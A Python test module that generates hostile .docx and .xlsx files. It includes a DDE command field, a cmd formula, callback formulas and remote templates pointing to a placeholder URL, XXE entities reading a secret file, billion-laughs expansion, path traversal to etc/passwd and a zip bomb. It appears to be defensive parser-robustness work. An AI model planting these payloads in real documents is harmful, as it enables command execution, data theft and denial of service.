"""Word and Excel files that point outside, run something or never end."""

from __future__ import annotations

from collections.abc import Mapping

from hostile_model import (
    BOMB,
    BROKEN,
    CALLBACK_URL,
    ESCAPE_NAME,
    INERT,
    SECRET_FILE,
    Draw,
    FileRecipe,
)
from raw_zip import Member, expanding, raw_zip, stored
from repeated_bytes import Expansion

_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_FORMATS = "http://schemas.openxmlformats.org"
_REL = f"{_FORMATS}/officeDocument/2006/relationships"
_PACKAGE = f"{_FORMATS}/package/2006"
_SHEET = f'xmlns="{_FORMATS}/spreadsheetml/2006/main"'
_WORD = f'xmlns:w="{_FORMATS}/wordprocessingml/2006/main" xmlns:r="{_REL}"'
_CONTENT = "application/vnd.openxmlformats-officedocument"


def _relations(*rows: tuple[str, str, bool]) -> str:
    """Return a relationships part of (type, target, external) rows."""
    lines = []
    for number, (kind, target, outside) in enumerate(rows, 1):
        mode = ' TargetMode="External"' if outside else ""
        lines.append(
            f'<Relationship Id="rId{number}" Type="{_REL}/{kind}" Target="{target}"{mode}/>'
        )
    space = f'xmlns="{_PACKAGE}/relationships"'
    return f"{_XML}<Relationships {space}>{''.join(lines)}</Relationships>"


def _types(**parts: str) -> str:
    lines = "".join(
        f'<Override PartName="/{name.replace("__", "/")}.xml" ContentType="{_CONTENT}.{kind}+xml"/>'
        for name, kind in parts.items()
    )
    return (
        f'{_XML}<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/>{lines}</Types>'
    )


def _package(parts: Mapping[str, str | bytes], *more: Member) -> bytes:
    members = []
    for name, text in parts.items():
        data = text if isinstance(text, bytes) else text.encode("utf-8")
        members.append(stored(name, data))
    return raw_zip((*members, *more))


def _workbook(sheet: str | None, extra: Mapping[str, str] | None = None) -> bytes:
    return _package(_workbook_parts(sheet, extra))


def _workbook_parts(sheet: str | None, extra: Mapping[str, str] | None = None) -> dict[str, str]:
    book = (
        f'{_XML}<workbook {_SHEET} xmlns:r="{_REL}"><sheets>'
        '<sheet name="Labs" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    links = [("worksheet", "worksheets/sheet1.xml", False)]
    if extra:
        links.append(("externalLink", "externalLinks/externalLink1.xml", False))
    parts = {
        "[Content_Types].xml": _types(
            xl__workbook="spreadsheetml.sheet.main",
            xl__worksheets__sheet1="spreadsheetml.worksheet",
        ),
        "_rels/.rels": _relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": _relations(*links),
    }
    if sheet is not None:
        parts["xl/worksheets/sheet1.xml"] = sheet
    return parts | dict(extra or {})


def _sheet(rows: str, dimension: str = "A1:B2", tail: str = "") -> str:
    return (
        f'{_XML}<worksheet {_SHEET}><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData>{tail}</worksheet>"
    )


def _cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def _document(body: str, relations: str = "", declaration: str = "") -> bytes:
    parts = {
        "[Content_Types].xml": _types(word__document="wordprocessingml.document.main"),
        "_rels/.rels": _relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": (
            f"{_XML}{declaration}<w:document {_WORD}><w:body>{body}</w:body></w:document>"
        ),
    }
    if relations:
        parts["word/_rels/document.xml.rels"] = relations
    return _package(parts)


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _xlsx_links(draw: Draw) -> bytes:
    link = (
        f'{_XML}<externalLink {_SHEET}><externalBook xmlns:r="{_REL}" r:id="rId1"/></externalLink>'
    )
    outside = _relations(("externalLinkPath", f"{CALLBACK_URL}.xlsx", True))
    formula = "<row r='1'><c r='A1'><f>[1]Sheet1!A1</f><v>7</v></c></row>"
    return _workbook(
        _sheet(formula + f"<row r='2'>{_cell('A2', draw.token())}</row>"),
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": outside,
        },
    )


def _xlsx_formula(draw: Draw) -> bytes:
    formulas = (
        "cmd|'/C calc'!A0",
        f'HYPERLINK("{CALLBACK_URL}","report")',
        f'WEBSERVICE("{CALLBACK_URL}")',
        f'"file://{SECRET_FILE}"#$Sheet1.A1',
        "A1",
        f'REPT("{draw.token()}",32767)',
    )
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><f>{text}</f></c>{_cell(f"B{n}", "=" + text)}</row>'
        for n, text in enumerate(formulas, 1)
    )
    return _workbook(_sheet(rows))


def _xlsx_dimension(draw: Draw) -> bytes:
    rows = (
        f'<row r="1">{_cell("A1", draw.token())}</row>'
        f'<row r="1048576">{_cell("XFD1048576", "end")}</row>'
    )
    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    columns = "A1:XFD1048576" if draw.turn % 2 == 0 else "A1:ZZZZ99999999"
    return _workbook(_sheet(rows, columns, merged))


def _xlsx_bomb(draw: Draw) -> bytes:
    """A worksheet part of two gibibytes of blanks between two tags."""
    head = f"{_XML}<worksheet {_SHEET}><sheetData>".encode()
    tail = b"</sheetData></worksheet>"
    run = Expansion(draw.around(2 << 30, 0.05), 0x20, head, tail)
    return _package(_workbook_parts(None), expanding("xl/worksheets/sheet1.xml", run))


def _xlsx_odd_cells(draw: Draw) -> bytes:
    odd = (
        '<c r="A1" t="s"><v>999999999</v></c><c r="A1" t="s"><v>-1</v></c>',
        '<c r="B1" t="d"><v>9999-99-99</v></c><c r="C1" s="99999"><v>1e400</v></c>',
        '<c r="@@" t="z"><v>x</v></c><c t="b"><v>7</v></c><c r="A0"><v>NaN</v></c>',
    )
    rows = list(odd)
    draw.rng.shuffle(rows)
    return _workbook(_sheet(f"<row r='-1'>{''.join(rows)}</row>"))


def _xlsx_cut(draw: Draw) -> bytes:
    rows = "".join(f'<row r="{n}">{_cell(f"A{n}", draw.token())}</row>' for n in range(1, 400))
    whole = _workbook(_sheet(rows))
    return whole[: draw.rng.randrange(len(whole) // 4, len(whole) * 3 // 4)]


def _docx_remote(draw: Draw) -> bytes:
    relations = _relations(
        ("attachedTemplate", f"{CALLBACK_URL}.dotm", True),
        ("image", f"{CALLBACK_URL}.png", True),
        ("oleObject", f"file://{SECRET_FILE}", True),
    )
    body = _paragraph(f"Synthetic letter {draw.token()}")
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'DDEAUTO c:\\\\cmd "/k {ESCAPE_NAME}"</w:instrText></w:r></w:p>'
    )
    return _document(body + field + '<w:altChunk r:id="rId3"/>', relations)


def _docx_outer_parts(draw: Draw) -> bytes:
    """Parts of the letter that lie outside the package, though not marked so."""
    relations = _relations(
        ("image", f"../../../../{ESCAPE_NAME}", False),
        ("styles", f"{'../' * 8}etc/passwd", False),
    )
    return _document(_paragraph(f"Synthetic letter {draw.token()}"), relations)


def _docx_entities(draw: Draw) -> bytes:
    """Entities in the letter itself: a file, and a thousandfold laugh."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9 + draw.turn % 3))
    secret = f'<!ENTITY x SYSTEM "file://{SECRET_FILE}">'
    start = f'<!DOCTYPE d [<!ENTITY l0 "laugh">{laughs}{secret}]>'
    return _document(_paragraph("Secret: &x; &l8;"), declaration=start)


def _docx_deep_tables(draw: Draw) -> bytes:
    depth = draw.around(3000)
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return _document(opening * depth + _paragraph(draw.token()) + closing * depth)


def _docx_cut(draw: Draw) -> bytes:
    whole = _document("".join(_paragraph(draw.token()) for _ in range(800)))
    return whole[: draw.rng.randrange(len(whole) // 4, len(whole) * 3 // 4)]


def _docx_without_letter(draw: Draw) -> bytes:
    """A package whose main part is missing, or is the package itself."""
    target = ("word/missing.xml", "_rels/.rels", "../../x.xml")[draw.turn % 3]
    relations = _relations(("officeDocument", target, False))
    return _package({"[Content_Types].xml": _types(), "_rels/.rels": relations})


def _docx_is_xlsx(draw: Draw) -> bytes:
    return _workbook(_sheet(f"<row r='1'>{_cell('A1', draw.token())}</row>"))


RECIPES = (
    FileRecipe("xlsx-external-links", ".xlsx", INERT, _xlsx_links),
    FileRecipe("docx-external", ".docx", INERT, _docx_remote),
    FileRecipe("xlsx-huge-dimension", ".xlsx", INERT, _xlsx_dimension),
    FileRecipe("docx-truncated", ".docx", BROKEN, _docx_cut),
    FileRecipe("xlsx-formula", ".xlsx", INERT, _xlsx_formula),
    FileRecipe("xlsx-truncated", ".xlsx", BROKEN, _xlsx_cut),
    FileRecipe("docx-entities", ".docx", BROKEN, _docx_entities),
    FileRecipe("xlsx-bomb", ".xlsx", BOMB, _xlsx_bomb),
    FileRecipe("docx-outer-parts", ".docx", INERT, _docx_outer_parts),
    FileRecipe("xlsx-odd-cells", ".xlsx", INERT, _xlsx_odd_cells),
    FileRecipe("docx-deep-tables", ".docx", INERT, _docx_deep_tables),
    FileRecipe("docx-without-letter", ".docx", BROKEN, _docx_without_letter),
    FileRecipe("docx-that-is-xlsx", ".docx", INERT, _docx_is_xlsx),
)
